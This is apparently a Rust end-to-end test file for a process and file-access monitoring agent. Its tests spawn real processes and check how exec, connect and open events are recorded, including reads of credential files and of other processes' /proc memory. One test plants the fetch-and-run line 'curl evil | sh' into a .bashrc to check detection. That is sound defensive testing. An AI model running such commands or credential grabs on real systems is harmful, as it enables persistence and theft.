//! End-to-end: the real agent with the real kernel programs, triggered by real processes.
//! Each test starts what it observes itself and matches events by the pids it knows.

use std::{
    ffi::CString,
    io::Read,
    net::{TcpListener, TcpStream},
    os::unix::process::ExitStatusExt,
    process::Command,
};

use integration_tests::{argv, kind, pid, Agent};

fn spawn(program: &str, args: &[&str]) -> std::process::Child {
    Command::new(program)
        .args(args)
        .spawn()
        .unwrap_or_else(|e| panic!("spawn {program}: {e}"))
}

#[test]
fn exec_is_reported_with_argv_and_resolved_executable() {
    let agent = Agent::start();
    let mut child = spawn("/bin/echo", &["exec-marker-5d1c", "second arg"]);
    let child_pid = child.id() as u64;
    child.wait().unwrap();
    let exec = agent.wait_for("exec of echo", |e| kind(e) == "exec" && pid(e) == child_pid);
    assert_eq!(
        argv(&exec),
        vec!["/bin/echo", "exec-marker-5d1c", "second arg"]
    );
    // /bin is a symlink to /usr/bin on Debian: the kernel-resolved executable is the real file.
    let real = std::fs::canonicalize("/bin/echo").unwrap();
    assert_eq!(
        exec["process"]["exe"].as_str(),
        Some(real.to_str().unwrap())
    );
    assert_eq!(exec["filename"].as_str(), Some("/bin/echo"));
    assert_eq!(exec["process"]["argv_truncated"], false);
    assert_eq!(
        exec["process"]["ppid"].as_u64(),
        Some(std::process::id() as u64)
    );
}

#[test]
fn fork_and_exit_code_are_reported() {
    let agent = Agent::start();
    // The shell forks a child that exits 3, then exits 7 itself (`; :` keeps it from exec'ing).
    let mut sh = spawn("/bin/sh", &["-c", "/bin/sh -c 'exit 3'; exit 7"]);
    let sh_pid = sh.id() as u64;
    let status = sh.wait().unwrap();
    assert_eq!(status.code(), Some(7));
    let fork = agent.wait_for("fork by the shell", |e| {
        kind(e) == "fork" && e["process"]["ppid"].as_u64() == Some(sh_pid)
    });
    let grandchild = pid(&fork);
    let exit = agent.wait_for("exit 3 of the forked child", |e| {
        kind(e) == "exit" && pid(e) == grandchild
    });
    assert_eq!(exit["code"].as_i64(), Some(3));
    let exit = agent.wait_for("exit 7 of the shell", |e| {
        kind(e) == "exit" && pid(e) == sh_pid
    });
    assert_eq!(exit["code"].as_i64(), Some(7));
    assert_eq!(exit["status"].as_u64(), Some(7 << 8));
}

#[test]
fn exit_by_signal_is_reported_as_signal() {
    let agent = Agent::start();
    let mut child = spawn("/bin/sleep", &["30"]);
    let child_pid = child.id() as u64;
    child.kill().unwrap();
    assert_eq!(child.wait().unwrap().signal(), Some(libc::SIGKILL));
    let exit = agent.wait_for("exit of killed sleep", |e| {
        kind(e) == "exit" && pid(e) == child_pid
    });
    assert_eq!(exit["signal"].as_i64(), Some(libc::SIGKILL as i64));
    assert!(exit["code"].is_null());
}

#[test]
fn three_level_chain_has_correct_ancestry() {
    let agent = Agent::start();
    // test -> sh (level 1) -> sh (level 2) -> echo (level 3). `; true` stops the shells from
    // replacing themselves with their last command.
    let mut top = spawn(
        "/bin/sh",
        &["-c", "/bin/sh -c '/bin/echo chain-marker-77ab; true'; true"],
    );
    let top_pid = top.id() as u64;
    top.wait().unwrap();
    let exec = agent.wait_for("exec of the chain's leaf", |e| {
        kind(e) == "exec" && argv(e).get(1).map(String::as_str) == Some("chain-marker-77ab")
    });
    let ancestry = exec["ancestry"].as_array().expect("ancestry");
    assert!(ancestry.len() >= 3, "{ancestry:?}");
    let middle = ancestry[0]["pid"].as_u64().unwrap();
    assert_eq!(exec["process"]["ppid"].as_u64(), Some(middle));
    assert_eq!(ancestry[1]["pid"].as_u64(), Some(top_pid));
    assert_eq!(ancestry[2]["pid"].as_u64(), Some(std::process::id() as u64));
    assert_eq!(
        ancestry[0]["argv"][2].as_str(),
        Some("/bin/echo chain-marker-77ab; true")
    );
    // The middle shell was seen being forked by the top one.
    agent.wait_for("fork of the middle shell", |e| {
        kind(e) == "fork" && pid(e) == middle && e["process"]["ppid"].as_u64() == Some(top_pid)
    });
}

fn connect_and_find(agent: &Agent, listener: TcpListener) {
    let addr = listener.local_addr().unwrap();
    let stream = TcpStream::connect(addr).unwrap();
    let (mut accepted, _) = listener.accept().unwrap();
    drop(stream);
    let _ = accepted.read(&mut [0u8; 1]);
    let me = std::process::id() as u64;
    let event = agent.wait_for(&format!("connect to {addr}"), |e| {
        kind(e) == "connect" && pid(e) == me && e["port"].as_u64() == Some(addr.port() as u64)
    });
    assert_eq!(
        event["address"].as_str(),
        Some(addr.ip().to_string().as_str())
    );
    assert_eq!(event["protocol"], "tcp");
    assert_eq!(event["result"].as_i64(), Some(0));
    assert_eq!(
        event["family"],
        if addr.is_ipv4() { "ipv4" } else { "ipv6" }
    );
}

#[test]
fn tcp_connects_to_loopback_over_ipv4_and_ipv6() {
    let agent = Agent::start();
    connect_and_find(&agent, TcpListener::bind("127.0.0.1:0").unwrap());
    connect_and_find(&agent, TcpListener::bind("[::1]:0").unwrap());
}

/// A process connecting to one place in a loop (a client polling or retrying) is a few
/// records, not one per connect: the run's first connect is written at once and the others
/// are counted (`repeats`) on records written at most every tick. Every connect is accounted
/// for: the records' connects add up to those the listener accepted. A connect elsewhere in
/// the same loop ends the run and is its own record, each time.
#[test]
fn a_run_of_identical_connects_is_written_as_a_few_records_that_count_every_connect() {
    const CONNECTS: usize = 600;
    const ELSEWHERE: usize = 6;
    let agent = Agent::start();
    let accept_all = |listener: TcpListener, n: usize| {
        std::thread::spawn(move || {
            let mut accepted = 0;
            while accepted < n {
                let (stream, _) = listener.accept().unwrap();
                drop(stream);
                accepted += 1;
            }
            accepted
        })
    };
    let (one, other) = (
        TcpListener::bind("127.0.0.1:0").unwrap(),
        TcpListener::bind("127.0.0.1:0").unwrap(),
    );
    let (port, other_port) = (
        one.local_addr().unwrap().port(),
        other.local_addr().unwrap().port(),
    );
    let at_one = accept_all(one, CONNECTS - ELSEWHERE);
    let at_other = accept_all(other, ELSEWHERE);
    let script = format!(
        "import socket\n\
         for i in range({CONNECTS}):\n\
         \x20   port = {other_port} if i % 100 == 50 else {port}\n\
         \x20   socket.create_connection(('127.0.0.1', port)).close()\n"
    );
    let mut child = spawn("python3", &["-c", &script]);
    let child_pid = child.id() as u64;
    assert!(child.wait().unwrap().success());
    // The connects really happened.
    assert_eq!(at_one.join().unwrap(), CONNECTS - ELSEWHERE);
    assert_eq!(at_other.join().unwrap(), ELSEWHERE);
    let to = |port: u16| {
        move |e: &serde_json::Value| {
            kind(e) == "connect" && pid(e) == child_pid && e["port"].as_u64() == Some(port as u64)
        }
    };
    let connects = |records: &[serde_json::Value]| -> u64 {
        records
            .iter()
            .map(|e| 1 + e["repeats"].as_u64().unwrap_or(0))
            .sum()
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    let records = loop {
        let records: Vec<serde_json::Value> = agent.events().into_iter().filter(to(port)).collect();
        if connects(&records) >= (CONNECTS - ELSEWHERE) as u64 {
            break records;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "{} of {} connects accounted for in {} records",
            connects(&records),
            CONNECTS - ELSEWHERE,
            records.len()
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    };
    assert_eq!(connects(&records), (CONNECTS - ELSEWHERE) as u64);
    // Runs between the connects elsewhere (and whatever else the machine did meanwhile).
    assert!(
        records.len() <= CONNECTS / 4,
        "{} records for {} connects",
        records.len(),
        CONNECTS - ELSEWHERE
    );
    assert!(records.iter().any(|e| e["repeats"].as_u64() > Some(0)));
    // The first connect is written as itself; each connect elsewhere is a record of its own.
    assert!(records[0].get("repeats").is_none(), "{:#}", records[0]);
    let elsewhere: Vec<serde_json::Value> =
        agent.events().into_iter().filter(to(other_port)).collect();
    assert_eq!(elsewhere.len(), ELSEWHERE, "{elsewhere:#?}");
    assert!(elsewhere.iter().all(|e| e.get("repeats").is_none()));
    // The metric counts the folded records.
    assert!(
        integration_tests::sample(&agent.scrape(), "monitor_connects_folded_total").unwrap_or(0.0)
            >= (CONNECTS - ELSEWHERE - records.len()) as f64,
    );
}

#[test]
fn refused_udp_and_mapped_connects_carry_protocol_and_result() {
    let agent = Agent::start();
    // A port nobody listens on: connect fails with ECONNREFUSED (-111).
    let closed = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    assert!(TcpStream::connect(("127.0.0.1", port)).is_err());
    let me = std::process::id() as u64;
    let refused = agent.wait_for("refused connect", |e| {
        kind(e) == "connect" && pid(e) == me && e["port"].as_u64() == Some(port as u64)
    });
    assert_eq!(
        refused["result"].as_i64(),
        Some(-(libc::ECONNREFUSED as i64))
    );
    // UDP connect (what resolvers do before sending a query).
    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    udp.connect("127.0.0.1:5353").unwrap();
    let event = agent.wait_for("udp connect", |e| {
        kind(e) == "connect" && pid(e) == me && e["port"].as_u64() == Some(5353)
    });
    assert_eq!(event["protocol"], "udp");
    // IPv4-mapped IPv6 on a dual-stack socket is reported as the IPv4 destination.
    let v4 = TcpListener::bind("127.0.0.1:0").unwrap();
    let v4_port = v4.local_addr().unwrap().port();
    let mapped = std::net::SocketAddr::new("::ffff:127.0.0.1".parse().unwrap(), v4_port);
    let _ = TcpStream::connect(mapped);
    let event = agent.wait_for("mapped connect", |e| {
        kind(e) == "connect" && pid(e) == me && e["port"].as_u64() == Some(v4_port as u64)
    });
    assert_eq!(event["family"], "ipv6");
    assert_eq!(event["address"], "127.0.0.1");
}

/// A directory with a watched credential file, a symlink to it with an innocent name, and a
/// subdirectory to open it from through `..`.
fn credential_fixture() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let root = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir(root.join("sub")).unwrap();
    std::fs::write(
        root.join(".npmrc"),
        "//registry.example/:_authToken=canary\n",
    )
    .unwrap();
    std::os::unix::fs::symlink(".npmrc", root.join("innocent.txt")).unwrap();
    std::fs::write(root.join("plain-unwatched.txt"), "x").unwrap();
    (dir, root)
}

#[test]
fn opens_through_relative_path_and_symlink_report_the_absolute_target() {
    let agent = Agent::start();
    let (_dir, root) = credential_fixture();
    let target = root.join(".npmrc");
    let mut rel = Command::new("/bin/cat")
        .arg("../.npmrc")
        .current_dir(root.join("sub"))
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let rel_pid = rel.id() as u64;
    rel.wait().unwrap();
    let mut link = Command::new("/bin/cat")
        .arg("innocent.txt")
        .current_dir(&root)
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let link_pid = link.id() as u64;
    link.wait().unwrap();
    for (what, p) in [("relative", rel_pid), ("symlink", link_pid)] {
        let open = agent.wait_for(&format!("open via {what} path"), |e| {
            kind(e) == "open" && pid(e) == p
        });
        assert_eq!(
            open["path"].as_str(),
            Some(target.to_str().unwrap()),
            "{what}: {open}"
        );
        assert_eq!(open["access"], "read");
        assert_eq!(open["via"], "syscall");
        assert_eq!(open["path_truncated"], false);
        assert!(open["matched"]
            .as_array()
            .unwrap()
            .iter()
            .any(|m| m == "name"));
    }
}

#[test]
fn unwatched_files_and_own_proc_entries_stay_in_the_kernel_but_other_processes_memory_does_not() {
    let agent = Agent::start();
    let (_dir, root) = credential_fixture();
    let mut sleeper = spawn("/bin/sleep", &["30"]);
    let victim = sleeper.id();
    // One reader shell runs, in order: an unwatched file, a process reading its own environ
    // (through /proc/self) and its own maps by pid (`exec` makes `$$` the reader itself), then
    // another process's environ and mem.
    let script = format!(
        "cat {plain} >/dev/null; cat /proc/self/environ >/dev/null; sh -c 'exec cat /proc/$$/maps' >/dev/null; \
         cat /proc/{victim}/environ >/dev/null; head -c1 /proc/{victim}/mem >/dev/null 2>&1; true",
        plain = root.join("plain-unwatched.txt").display()
    );
    let mut reader = spawn("/bin/sh", &["-c", &script]);
    let reader_pid = reader.id() as u64;
    reader.wait().unwrap();
    let environ = agent.wait_for("read of another process's environ", |e| {
        kind(e) == "open" && e["path"].as_str() == Some(&format!("/proc/{victim}/environ"))
    });
    assert_eq!(environ["matched"][0], "proc_other_process");
    agent.wait_for("open of another process's mem", |e| {
        kind(e) == "open" && e["path"].as_str() == Some(&format!("/proc/{victim}/mem"))
    });
    sleeper.kill().unwrap();
    sleeper.wait().unwrap();
    // Everything before the victim's environ was filtered in the kernel.
    let events = agent.events();
    let from_reader = |e: &&integration_tests::Value| {
        pid(e) == reader_pid
            || e["ancestry"]
                .as_array()
                .is_some_and(|a| a.iter().any(|p| p["pid"].as_u64() == Some(reader_pid)))
    };
    let opens: Vec<_> = events
        .iter()
        .filter(|e| kind(e) == "open")
        .filter(from_reader)
        .collect();
    assert!(opens.len() >= 2, "the victim's environ and mem: {opens:?}");
    for e in opens {
        let path = e["path"].as_str().unwrap_or("");
        assert!(
            !path.ends_with("plain-unwatched.txt"),
            "unwatched file leaked through the filter: {e}"
        );
        if path.starts_with("/proc/") && !path.starts_with(&format!("/proc/{victim}/")) {
            panic!("own /proc entry reported: {e}");
        }
    }
}

#[test]
fn path_deeper_than_the_walk_bound_is_flagged_truncated() {
    let agent = Agent::start();
    let dir = tempfile::tempdir().unwrap();
    let mut deep = std::fs::canonicalize(dir.path()).unwrap();
    for i in 0..60 {
        deep.push(format!("d{i}"));
    }
    std::fs::create_dir_all(&deep).unwrap();
    let target = deep.join(".npmrc");
    std::fs::write(&target, "x").unwrap();
    let mut cat = Command::new("/bin/cat")
        .arg(&target)
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let cat_pid = cat.id() as u64;
    cat.wait().unwrap();
    let open = agent.wait_for("open of the deep file", |e| {
        kind(e) == "open" && pid(e) == cat_pid
    });
    assert_eq!(open["path_truncated"], true, "{open}");
    // What is kept is the tail of the path, ending in the file itself.
    assert!(
        open["path"].as_str().unwrap().ends_with("/d59/.npmrc"),
        "{open}"
    );
}

#[test]
fn argv_longer_than_the_bound_is_truncated_and_flagged() {
    let agent = Agent::start();
    let long: Vec<String> = (0..100)
        .map(|i| format!("argument-{i:03}-{}", "x".repeat(60)))
        .collect();
    let total: usize = long.iter().map(|a| a.len() + 1).sum::<usize>() + "/bin/true".len() + 1;
    assert!(total > 4096);
    let mut child = Command::new("/bin/true").args(&long).spawn().unwrap();
    let child_pid = child.id() as u64;
    child.wait().unwrap();
    let exec = agent.wait_for("exec with long argv", |e| {
        kind(e) == "exec" && pid(e) == child_pid
    });
    assert_eq!(exec["process"]["argv_truncated"], true);
    assert_eq!(exec["argv_total_len"].as_u64(), Some(total as u64));
    let argv = argv(&exec);
    assert_eq!(argv[0], "/bin/true");
    assert_eq!(argv[1], long[0]);
    let kept: usize = argv.iter().map(|a| a.len() + 1).sum();
    assert!(kept <= 4096 && kept > 4000, "kept {kept} bytes");
}

#[test]
fn io_uring_opens_are_resolved_inline_and_on_a_worker() {
    use io_uring::{opcode, squeue, types, IoUring};
    let agent = Agent::start();
    let (_dir, root) = credential_fixture();
    let target = root.join(".npmrc");
    let path = CString::new(target.to_str().unwrap()).unwrap();
    let mut ring = IoUring::new(4).expect("io_uring (kernel.io_uring_disabled must be 0)");
    let mut fds = Vec::new();
    for force_async in [false, true] {
        let mut sqe = opcode::OpenAt::new(types::Fd(libc::AT_FDCWD), path.as_ptr())
            .flags(libc::O_RDONLY)
            .build();
        if force_async {
            sqe = sqe.flags(squeue::Flags::ASYNC); // completes on an io-wq worker thread
        }
        // SAFETY: `path` outlives the submission, which completes before we go on.
        unsafe { ring.submission().push(&sqe).unwrap() };
        ring.submit_and_wait(1).unwrap();
        let cqe = ring.completion().next().expect("completion");
        assert!(cqe.result() >= 0, "io_uring open failed: {}", cqe.result());
        fds.push(cqe.result());
    }
    let me = std::process::id() as u64;
    for fd in fds {
        let open = agent.wait_for(&format!("io_uring open fd {fd}"), |e| {
            kind(e) == "open"
                && pid(e) == me
                && e["fd"].as_i64() == Some(fd as i64)
                && e["via"] == "io_uring"
        });
        assert_eq!(open["path"].as_str(), Some(target.to_str().unwrap()));
        // SAFETY: closing descriptors io_uring opened for us.
        unsafe { libc::close(fd) };
    }
}

#[test]
fn agent_stops_cleanly_and_reports_no_losses_at_low_rate() {
    let mut agent = Agent::start();
    let mut child = spawn("/bin/true", &[]);
    let child_pid = child.id() as u64;
    child.wait().unwrap();
    agent.wait_for("exec of true", |e| kind(e) == "exec" && pid(e) == child_pid);
    let log = agent.stop();
    let stats_line = log
        .lines()
        .find(|l| l.starts_with("{\"stats\""))
        .expect("stats line on stop");
    let stats: serde_json::Value = serde_json::from_str(stats_line).unwrap();
    assert!(stats["stats"]["events"]["exec"].as_u64().unwrap() >= 1);
    for k in ["exec", "fork", "exit", "connect", "open"] {
        assert_eq!(stats["stats"]["kernel_losses"][k], 0, "{stats}");
    }
    assert_eq!(stats["stats"]["decode_errors"], 0);
    assert_eq!(stats["stats"]["channel_full_drops"], 0);
}

#[test]
fn exec_carries_cwd_and_only_the_ci_identity_part_of_its_environment() {
    let mut agent = Agent::start();
    let dir = tempfile::tempdir().unwrap();
    let cwd = std::fs::canonicalize(dir.path()).unwrap();
    let canary = format!("ghs_{}", "C4n4ry".repeat(6));
    let mut child = Command::new("/bin/true")
        .current_dir(&cwd)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("GITHUB_JOB", "build")
        .env("GITHUB_ACTION", "__run_2")
        .env("GITHUB_RUN_ID", "4242")
        .env("GITHUB_TOKEN", &canary)
        .env("ACTIONS_ID_TOKEN_REQUEST_TOKEN", &canary)
        .env("npm_lifecycle_event", "postinstall")
        .spawn()
        .unwrap();
    let child_pid = child.id() as u64;
    child.wait().unwrap();
    let exec = agent.wait_for("exec with CI env", |e| {
        kind(e) == "exec" && pid(e) == child_pid
    });
    assert_eq!(exec["cwd"].as_str(), Some(cwd.to_str().unwrap()), "{exec}");
    assert_eq!(exec["env"]["GITHUB_JOB"], "build", "{exec}");
    assert_eq!(exec["env"]["GITHUB_ACTION"], "__run_2");
    assert_eq!(exec["env"]["GITHUB_RUN_ID"], "4242");
    assert_eq!(exec["env"]["npm_lifecycle_event"], "postinstall");
    assert_eq!(exec["env"]["ACTIONS_ID_TOKEN_REQUEST_TOKEN"], "[present]");
    assert!(exec["env"].get("GITHUB_TOKEN").is_none(), "{exec}");
    assert!(exec["env"].get("PATH").is_none(), "{exec}");
    let everything = std::fs::read_to_string(&agent.events_path).unwrap();
    let log = agent.stop();
    assert!(
        !everything.contains(&canary),
        "a secret from the environment reached the event log"
    );
    assert!(
        !log.contains(&canary),
        "a secret from the environment reached the agent log"
    );
}

/// io_uring's rename and link are names given like the syscalls': a file renamed onto a
/// start-up file and a credential hard-linked under an innocent name, both submitted to a ring
/// (inline and forced onto a worker). The kernel copies of the names are read at submission.
#[test]
fn io_uring_renames_and_links_are_names() {
    use io_uring::{opcode, squeue, types, IoUring};
    let agent = Agent::start();
    let (_dir, root) = credential_fixture();
    let staged = root.join("rc.new");
    std::fs::write(&staged, "curl evil | sh\n").unwrap();
    let c = |p: &std::path::Path| CString::new(p.to_str().unwrap()).unwrap();
    let (staged_c, rc_c) = (c(&staged), c(&root.join(".bashrc")));
    let (npmrc_c, notes_c) = (c(&root.join(".npmrc")), c(&root.join("notes.txt")));
    let mut ring = IoUring::new(4).expect("io_uring (kernel.io_uring_disabled must be 0)");
    let fd = types::Fd(libc::AT_FDCWD);
    let rename = opcode::RenameAt::new(fd, staged_c.as_ptr(), fd, rc_c.as_ptr()).build();
    let link = opcode::LinkAt::new(fd, npmrc_c.as_ptr(), fd, notes_c.as_ptr())
        .build()
        .flags(squeue::Flags::ASYNC);
    for sqe in [rename, link] {
        // SAFETY: the names outlive the submission, which completes before we go on.
        unsafe { ring.submission().push(&sqe).unwrap() };
        ring.submit_and_wait(1).unwrap();
        let cqe = ring.completion().next().expect("completion");
        assert_eq!(cqe.result(), 0, "io_uring rename/link failed");
    }
    // Both happened.
    assert!(std::fs::read_to_string(root.join(".bashrc"))
        .unwrap()
        .contains("evil"));
    assert_eq!(
        std::fs::read(root.join("notes.txt")).unwrap(),
        std::fs::read(root.join(".npmrc")).unwrap()
    );
    let me = std::process::id() as u64;
    let renamed = agent.wait_for("io_uring rename onto .bashrc", |e| {
        kind(e) == "name" && pid(e) == me && e["op"] == "rename" && e["via"] == "io_uring"
    });
    assert_eq!(renamed["path"], root.join(".bashrc").to_str().unwrap());
    let linked = agent.wait_for("io_uring link of .npmrc", |e| {
        kind(e) == "name" && pid(e) == me && e["op"] == "link" && e["via"] == "io_uring"
    });
    assert_eq!(linked["path"], root.join("notes.txt").to_str().unwrap());
    assert_eq!(linked["from"], root.join(".npmrc").to_str().unwrap());
    assert!(linked["matched"]
        .as_array()
        .unwrap()
        .iter()
        .any(|m| m == "from"));
}
